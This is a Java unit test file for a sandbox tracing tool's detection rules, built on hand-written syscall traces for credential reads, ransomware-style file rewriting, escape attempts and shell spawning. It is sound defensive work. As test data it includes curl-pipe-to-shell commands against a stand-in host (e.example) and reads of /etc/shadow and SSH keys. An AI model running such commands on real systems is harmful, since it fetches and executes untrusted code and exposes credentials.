package dev.sandtrace.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Indicator rules on hand-written trace lines: the cases a fixture cannot easily produce. */
class RulesTest {
    private static final String HEADER = "{\"event_type\":\"header\",\"seq\":0,\"time_ns\":0,\"program\":\"/opt/x\",\"cwd\":\"/w\","
            + "\"layers\":[]}\n";

    private static Report report(String lines) throws Exception {
        ReportBuilder b = new ReportBuilder(null);
        try (var r = new TraceReader("test", new ByteArrayInputStream((HEADER + lines).getBytes(StandardCharsets.UTF_8)))) {
            for (TraceEvent e; (e = r.next()) != null; ) b.accept(e);
        }
        return b.build();
    }

    private static String sys(long seq, int pid, String name, String decoded, boolean ok, String errno, String extra) {
        return "{\"event_type\":\"syscall\",\"seq\":" + seq + ",\"time_ns\":" + seq + ",\"pid\":" + pid + ",\"tid\":" + pid
                + ",\"syscall\":\"" + name + "\",\"syscall_nr\":1,\"arch\":\"x86_64\",\"args\":{\"raw\":[0,0,0,0,0,0],\"decoded\":"
                + decoded + "},\"return_value\":" + (ok ? 0 : -1) + ",\"success\":" + ok + ",\"errno\":"
                + (errno == null ? "null" : "\"" + errno + "\"") + ",\"text\":\"" + name + "(...)\"" + extra + "}\n";
    }

    private static String exec(long seq, int pid, String path, String argv) {
        return "{\"event_type\":\"process\",\"seq\":" + seq + ",\"time_ns\":" + seq + ",\"kind\":\"exec\",\"pid\":" + pid
                + ",\"tid\":" + pid + ",\"path\":\"" + path + "\",\"argv\":" + argv + "}\n";
    }

    private static String spawn(long seq, int parent, int child) {
        return "{\"event_type\":\"process\",\"seq\":" + seq + ",\"time_ns\":" + seq + ",\"kind\":\"spawned\",\"pid\":" + parent
                + ",\"tid\":" + parent + ",\"parent_pid\":" + parent + ",\"child_pid\":" + child + ",\"via\":\"fork\"}\n";
    }

    private static List<String> found(Report r) {
        return ReportAssertions.summary(r);
    }

    @Test
    void ldSoCacheAndPasswdAreNotCredentials() throws Exception {
        Report r = report(sys(1, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/etc/ld.so.cache\",\"flags\":\"O_RDONLY\"}", true, null, "")
                + sys(2, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/etc/passwd\",\"flags\":\"O_RDONLY\"}", true, null, "")
                + sys(3, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/home/u/.ssh/id_ed25519.pub\",\"flags\":\"O_RDONLY\"}", true, null, ""));
        assertThat(found(r)).isEmpty();
    }

    @Test
    void aToolReadingItsOwnCredentialsIsRoutine() throws Exception {
        String npmrc = "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/home/u/.npmrc\",\"flags\":\"O_RDONLY|O_CLOEXEC\"}";
        String key = "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/home/u/.ssh/id_ed25519\",\"flags\":\"O_RDONLY\"}";
        // npm --version reads its config, which is where its registry token lives
        Report npm = report(exec(1, 10, "/usr/bin/node", "[\"node\",\"/usr/bin/npm\",\"--version\"]")
                + sys(2, 10, "openat", npmrc, true, null, ""));
        assertThat(found(npm)).containsExactly("info credential-access: npm used its own token or password file: /home/u/.npmrc");
        // a package's install script run by node is not npm
        Report postinstall = report(exec(1, 10, "/usr/bin/node", "[\"node\",\"install.js\"]")
                + sys(2, 10, "openat", npmrc, true, null, ""));
        assertThat(ReportAssertions.indicator(postinstall, "credential-access").severity()).isEqualTo(Severity.HIGH);
        Report ssh = report(exec(1, 10, "/usr/bin/ssh", "[\"ssh\",\"host\"]") + sys(2, 10, "openat", key, true, null, ""));
        assertThat(ReportAssertions.indicator(ssh, "credential-access").severity()).isEqualTo(Severity.INFO);
        // a program that only calls itself ssh
        Report fake = report(exec(1, 10, "/tmp/.x/ssh", "[\"ssh\"]") + sys(2, 10, "openat", key, true, null, ""));
        assertThat(ReportAssertions.indicator(fake, "credential-access").severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void aDeniedSecretIsAnAttemptEvenWhenItsSyscallWasNotTraced() throws Exception {
        // sandtrace run -e trace=process,network: no openat line, only the mask's violation (syscall_seq -1)
        Report r = report("{\"event_type\":\"violation\",\"seq\":2,\"time_ns\":2,\"pid\":10,\"tid\":10,\"syscall\":\"openat\","
                + "\"layer\":\"mount mask\",\"errno\":\"EACCES\",\"target\":\"/root/.ssh/id_rsa\",\"reason\":\"/root is hidden\","
                + "\"syscall_seq\":-1}\n");
        assertThat(found(r)).containsExactly(
                "medium credential-access: tried to open (denied by mount mask) a private SSH key: /root/.ssh/id_rsa");
    }

    @Test
    void sedInPlaceOnManyFilesIsNotRansomware() throws Exception {
        // sed -i s/a/b/ src/*.c: each file is written to a fresh sedXXXXXX, which is renamed over it
        StringBuilder lines = new StringBuilder();
        long seq = 1;
        for (int i = 0; i < 30; i++) {
            lines.append(sys(seq++, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/w/src/f" + i + ".c\",\"flags\":\"O_RDONLY\"}",
                    true, null, ""));
            lines.append(sys(seq++, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/w/src/sedTMP" + i
                    + "\",\"flags\":\"O_RDWR|O_CREAT|O_EXCL\",\"mode\":\"0600\"}", true, null, ""));
            lines.append(sys(seq++, 10, "rename", "{\"oldpath\":\"/w/src/sedTMP" + i + "\",\"newpath\":\"/w/src/f" + i + ".c\"}",
                    true, null, ""));
        }
        Report r = report(lines.toString());
        Report.Indicator i = ReportAssertions.indicator(r, "mass-modification");
        assertThat(i.severity()).as(i.reason()).isEqualTo(Severity.MEDIUM);
        assertThat(i.reason()).startsWith("20 files overwritten, renamed or replaced");
    }

    private static String encryptAndDelete(int pid, int files) {
        // read x, write x.enc beside it, unlink x: ransomware's most common shape (no rename at all)
        StringBuilder lines = new StringBuilder();
        long seq = 100;
        for (int i = 0; i < files; i++) {
            lines.append(sys(seq++, pid, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/home/u/doc" + i + ".txt\",\"flags\":\"O_RDONLY\"}",
                    true, null, ""));
            lines.append(sys(seq++, pid, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/home/u/doc" + i
                    + ".txt.enc\",\"flags\":\"O_WRONLY|O_CREAT|O_TRUNC\",\"mode\":\"0600\"}", true, null, ""));
            lines.append(sys(seq++, pid, "unlink", "{\"pathname\":\"/home/u/doc" + i + ".txt\"}", true, null, ""));
        }
        return lines.toString();
    }

    @Test
    void encryptedCopiesReplacingTheirOriginalsAreRansomware() throws Exception {
        Report.Indicator i = ReportAssertions.indicator(report(exec(1, 10, "/tmp/x", "[\"x\"]") + encryptAndDelete(10, 25)),
                "mass-modification");
        assertThat(i.severity()).as(i.reason()).isEqualTo(Severity.HIGH);
        assertThat(i.reason()).startsWith("20 files rewritten or replaced under a new extension");
        // gzip does the same by design: counted, but not as ransomware
        Report.Indicator gz = ReportAssertions.indicator(report(exec(1, 10, "/usr/bin/gzip", "[\"gzip\",\"-r\",\".\"]")
                + encryptAndDelete(10, 25)), "mass-modification");
        assertThat(gz.severity()).isEqualTo(Severity.MEDIUM);
        // fewer than the threshold: nothing
        assertThat(found(report(exec(1, 10, "/tmp/x", "[\"x\"]") + encryptAndDelete(10, 5)))).noneMatch(f -> f.contains("mass-modification"));
    }

    @Test
    void deniedMountAndI386AreEscapeAttempts() throws Exception {
        Report r = report(sys(1, 10, "mount", "{\"source\":\"none\",\"target\":\"/mnt\"}", false, "EPERM", "")
                + "{\"event_type\":\"violation\",\"seq\":2,\"time_ns\":2,\"pid\":10,\"tid\":10,\"syscall\":\"mount\",\"layer\":\"seccomp\","
                + "\"errno\":\"EPERM\",\"target\":null,\"reason\":\"denied\",\"syscall_seq\":1}\n"
                + sys(3, 10, "open", "{\"pathname\":\"/etc/hostname\",\"flags\":\"O_RDONLY\"}", true, null, "").replace("\"x86_64\"", "\"i386\""));
        Report.Indicator i = ReportAssertions.indicator(r, "escape-attempt");
        assertThat(i.severity()).isEqualTo(Severity.HIGH);
        assertThat(i.evidence()).extracting(Evidence::seq).containsExactlyInAnyOrder(1L, 2L, 3L);
        assertThat(r.denials()).singleElement().satisfies(d -> assertThat(d.layer()).isEqualTo("seccomp"));
    }

    @Test
    void sleepingThroughTheTimeoutIsAntiAnalysis() throws Exception {
        Report r = report("{\"event_type\":\"timeout\",\"seq\":1,\"time_ns\":5,\"limit_seconds\":1.0,\"killed\":1}\n"
                + sys(2, 10, "clock_nanosleep", "{}", false, null, ",\"finished\":false")
                + "{\"event_type\":\"process\",\"seq\":3,\"time_ns\":6,\"kind\":\"signaled\",\"pid\":10,\"tid\":10,\"signal\":\"SIGKILL\"}\n");
        assertThat(ReportAssertions.indicator(r, "anti-analysis").severity()).isEqualTo(Severity.MEDIUM);
        assertThat(r.processes()).singleElement().satisfies(p -> assertThat(p.end()).isEqualTo("killed by SIGKILL"));
    }

    @Test
    void loopbackIsInfoAndTheInternetMedium() throws Exception {
        String lo = "{\"sockfd\":3,\"addr\":{\"sa_family\":\"AF_INET6\",\"sin6_port\":53,\"sin6_addr\":\"::1\"},\"addrlen\":28}";
        Report local = report(sys(1, 10, "connect", lo, true, null, ""));
        assertThat(found(local)).containsExactly("info outbound-network: connect to loopback [::1]:53");
        String dns = "{\"sockfd\":3,\"buf\":\"x\",\"len\":1,\"flags\":0,\"dest_addr\":{\"sa_family\":\"AF_INET\",\"sin_port\":53,"
                + "\"sin_addr\":\"8.8.8.8\"},\"addrlen\":16}";
        Report remote = report(sys(1, 10, "sendto", dns, true, null, ""));
        assertThat(found(remote)).containsExactly("medium outbound-network: DNS query to 8.8.8.8:53");
        assertThat(remote.network()).singleElement().satisfies(n -> {
            assertThat(n.family()).isEqualTo("AF_INET");
            assertThat(n.address()).isEqualTo("8.8.8.8");
            assertThat(n.outcome()).isEqualTo("ok");
        });
    }

    @Test
    void shellsByWhoStartedThem() throws Exception {
        // the traced program is a shell script: its own shell is the target, its children routine
        Report script = report(exec(1, 10, "/bin/sh", "[\"sh\",\"build.sh\"]") + spawn(2, 10, 11)
                + exec(3, 11, "/usr/bin/python3.11", "[\"python3\",\"gen.py\"]"));
        assertThat(found(script)).containsExactly("info shell-spawn: /bin/sh started the interpreter /usr/bin/python3.11: python3 gen.py");
        // a binary that opens a shell which fetches something
        Report dropper = report(exec(1, 10, "/opt/x", "[\"x\"]") + spawn(2, 10, 11)
                + exec(3, 11, "/bin/bash", "[\"bash\",\"-c\",\"curl -s http://e.example/p | sh\"]"));
        assertThat(ReportAssertions.indicator(dropper, "shell-spawn").severity()).isEqualTo(Severity.HIGH);
        Report plain = report(exec(1, 10, "/opt/x", "[\"x\"]") + spawn(2, 10, 11)
                + exec(3, 11, "/bin/sh", "[\"sh\",\"-c\",\"uname -a\"]"));
        assertThat(ReportAssertions.indicator(plain, "shell-spawn").severity()).isEqualTo(Severity.MEDIUM);
        // a "#!/usr/bin/env bash" script exec'd by a binary: env runs bash on the script itself
        Report shebang = report(exec(1, 10, "/opt/x", "[\"x\"]") + spawn(2, 10, 11)
                + exec(3, 11, "/opt/tool", "[\"tool\",\"run\"]")
                + exec(4, 11, "/usr/bin/bash", "[\"bash\",\"/opt/tool\",\"run\"]"));
        assertThat(found(shebang)).containsExactly("info shell-spawn: /opt/tool started the shell /usr/bin/bash: bash /opt/tool run");
    }

    @Test
    void aShellRunningWhatCurlPrintedIsHigh() throws Exception {
        // sandtrace run -- sh -c 'curl -s http://e.example/i.sh | sh': no file is written, the script is a pipe
        Report piped = report(exec(1, 10, "/bin/sh", "[\"sh\",\"-c\",\"curl -s http://e.example/i.sh | sh\"]")
                + spawn(2, 10, 11) + exec(3, 11, "/usr/bin/curl", "[\"curl\",\"-s\",\"http://e.example/i.sh\"]")
                + spawn(4, 10, 12) + exec(5, 12, "/bin/sh", "[\"sh\"]"));
        Report.Indicator i = ReportAssertions.indicator(piped, "shell-spawn");
        assertThat(i.severity()).isEqualTo(Severity.HIGH);
        assertThat(i.reason()).contains("runs what a download printed: sh -c curl -s http://e.example/i.sh | sh");
        // the same shell fed by something else stays routine
        Report local = report(exec(1, 10, "/bin/sh", "[\"sh\",\"-c\",\"cat setup.sh | sh\"]")
                + spawn(4, 10, 12) + exec(5, 12, "/bin/sh", "[\"sh\"]"));
        assertThat(ReportAssertions.indicator(local, "shell-spawn").severity()).isEqualTo(Severity.INFO);
    }

    @Test
    void tarCompressingThroughShIsRoutine() throws Exception {
        // GNU tar czf runs its compressor as "/bin/sh -c gzip"
        Report r = report(exec(1, 10, "/usr/bin/tar", "[\"tar\",\"czf\",\"t.tgz\",\"tree\"]") + spawn(2, 10, 11)
                + exec(3, 11, "/bin/sh", "[\"/bin/sh\",\"-c\",\"gzip\"]") + exec(4, 11, "/usr/bin/gzip", "[\"gzip\"]"));
        assertThat(found(r)).containsExactly("info shell-spawn: /usr/bin/tar started the shell /bin/sh: /bin/sh -c gzip");
    }

    @Test
    void aScriptDeletingItselfIsSelfDeletion() throws Exception {
        Report r = report(exec(1, 10, "/bin/sh", "[\"sh\",\"run.sh\"]") + spawn(2, 10, 11)
                + exec(3, 11, "/bin/rm", "[\"rm\",\"-f\",\"run.sh\"]")
                + sys(4, 11, "unlinkat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"run.sh\",\"flags\":0}", true, null, ""));
        assertThat(found(r)).contains("high self-deletion: deleted the program of its ancestor pid 10: /w/run.sh");
    }

    @Test
    void aLinkerWritingWhatIsRunIsInfo() throws Exception {
        Report r = report(exec(1, 10, "/usr/bin/ld", "[\"ld\"]")
                + sys(2, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"a.out\",\"flags\":\"O_RDWR|O_CREAT|O_TRUNC\",\"mode\":\"0666\"}", true, null, "")
                + spawn(3, 10, 11)
                + sys(4, 11, "execve", "{\"pathname\":\"./a.out\",\"argv\":[\"./a.out\"]}", true, null, ""));
        assertThat(found(r)).containsExactly("info download-and-execute: /w/a.out built by ld and then run");
    }

    @Test
    void aChildSeenBeforeItsSpawnLineIsOneProcessUnderItsParent() throws Exception {
        Report r = report(exec(1, 10, "/opt/x", "[\"x\"]") + sys(2, 11, "getpid", "{}", true, null, "")
                + spawn(3, 10, 11) + exec(4, 11, "/bin/true", "[\"true\"]"));
        assertThat(r.processes()).extracting(Report.Process::pid).containsExactly(10, 11);
        assertThat(r.processes().get(1).parentPid()).isEqualTo(10);
        assertThat(r.processes().get(1).syscalls()).isEqualTo(1);
    }

    @Test
    void aChildDeletingItsProgramBeforeItsSpawnLineIsSelfDeletion() throws Exception {
        Report r = report(exec(1, 10, "/tmp/d", "[\"d\"]") + sys(2, 11, "unlink", "{\"pathname\":\"/tmp/d\"}", true, null, "")
                + spawn(3, 10, 11));
        assertThat(found(r)).contains("high self-deletion: deleted its own executable: /tmp/d");
    }

    @Test
    void aMaskedSecretIsAnAttemptNotATheft() throws Exception {
        String open = sys(2, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/etc/shadow\",\"flags\":\"O_RDONLY\"}", true, null, "");
        String mask = "{\"event_type\":\"violation\",\"seq\":3,\"time_ns\":3,\"pid\":10,\"tid\":10,\"syscall\":\"openat\","
                + "\"layer\":\"mount mask\",\"errno\":null,\"target\":\"/etc/shadow\",\"reason\":\"masked\",\"syscall_seq\":2}\n";
        assertThat(found(report(exec(1, 10, "/opt/x", "[\"x\"]") + open + mask)))
                .containsExactly("medium credential-access: tried to read the system password hashes: /etc/shadow (masked: it got an empty file)");
        assertThat(found(report(exec(1, 10, "/opt/x", "[\"x\"]") + open)))
                .containsExactly("high credential-access: read the system password hashes: /etc/shadow");
    }
}
